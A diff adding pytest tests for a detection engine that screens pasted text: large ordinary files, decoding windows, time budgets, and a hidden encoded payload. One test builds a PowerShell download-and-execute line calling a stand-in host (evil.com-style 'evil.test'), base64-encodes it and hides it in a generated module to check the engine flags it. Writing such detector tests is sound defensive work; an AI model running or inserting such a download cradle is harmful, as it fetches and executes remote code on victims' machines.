@@ -12,8 +12,12 @@ from __future__ import annotations
 import pytest
 
 from app.detection import Context, Engine, Level, PasteTarget
+from app.detection.engine import DEEP_CAP, MAX_INPUT
+from app.detection.windows import select_windows
+from tests.app.detection import bigtexts
 
 KiB = 1024
+FOREVER = float("inf")
 INCOMPLETE = "PG-ENGINE-INCOMPLETE"
 CONTEXTS = {
     "bare": Context(),
@@ -68,3 +72,61 @@ def test_escaped_surrogates_in_a_short_text_are_no_internal_error(engine: Engine
     text = "self.assertEqual(s, '\\udcff\\udcfe\\udcfd\\udcfc')\n" * 3
     verdict = engine.analyze(text)
     assert verdict.complete and verdict.level is Level.CLEAN, verdict.rule_ids
+
+
+@pytest.fixture(scope="module")
+def patient() -> Engine:
+    """What is looked at, not how fast (bench/hostile.py times the same texts)."""
+    return Engine(budget_ms=60_000, strict=True)
+
+
+@pytest.mark.parametrize("name", list(bigtexts.ORDINARY))
+@pytest.mark.parametrize("target", list(CONTEXTS))
+def test_ordinary_big_texts_are_judged_on_what_they_say(
+    patient: Engine, name: str, target: str
+) -> None:
+    make, size = bigtexts.ORDINARY[name]
+    text = make(size)
+    assert size - 16 * KiB <= len(text) <= size, len(text)
+    verdict = patient.analyze(text, CONTEXTS[target])
+    incomplete = [f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE]
+    assert verdict.complete, incomplete
+    assert verdict.level <= Level.INFO, verdict.rule_ids
+
+
+@pytest.mark.parametrize("name", list(bigtexts.ORDINARY))
+def test_their_digests_and_data_are_no_undecoded_blob(name: str) -> None:
+    # integrity digests, hashes and inlined images decode to nothing readable: nothing is
+    # left over for the deep windows to decode, however long they are given
+    make, size = bigtexts.ORDINARY[name]
+    deep = select_windows(make(size), DEEP_CAP, FOREVER, budget=32 * KiB)
+    assert not deep.undecoded, deep.undecoded
+
+
+def test_a_live_blob_in_a_big_source_file_fails_closed_and_is_named(patient: Engine) -> None:
+    # an encoded command too long for the windows, in the middle of a 300 KiB module
+    script = "\n".join(
+        f"Write-Host 'step {i}'; iex (New-Object Net.WebClient).DownloadString("
+        f"'https://evil.test/{i}.ps1')"
+        for i in range(1200)
+    )
+    blob = bigtexts.b64(script.encode("utf-16-le"))
+    text = bigtexts.hide(bigtexts.python_module(300 * KiB), f"    PAYLOAD = '{blob}'", 0.5)
+    verdict = patient.analyze(text, CONTEXTS["editor"])
+    assert not verdict.complete
+    assert verdict.level >= Level.SUSPICIOUS
+    evidence = next(f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE)
+    assert f"{len(blob):,} characters" in evidence and blob[:24] in evidence, evidence
+
+
+def test_a_long_text_has_more_of_the_budget_the_shorter_it_is() -> None:
+    # a long text also costs time outside the budget, in proportion to its length: the budget
+    # of a few hundred KiB is larger, a megabyte's is the engine's own, a short text's too
+    engine = Engine(budget_ms=60.0, strict=True)
+    assert engine.budget_for(100) == engine.budget_for(DEEP_CAP) == engine.budget_s
+    assert engine.budget_for(MAX_INPUT) == engine.budget_s
+    assert engine.budget_for(4 * MAX_INPUT) == engine.budget_s
+    budgets = [engine.budget_for(n) for n in range(DEEP_CAP + 1, MAX_INPUT + 1, 16 * KiB)]
+    assert budgets == sorted(budgets, reverse=True)
+    assert engine.budget_for(300 * KiB) >= 1.3 * engine.budget_s
+    assert max(budgets) <= 1.3 * engine.budget_s
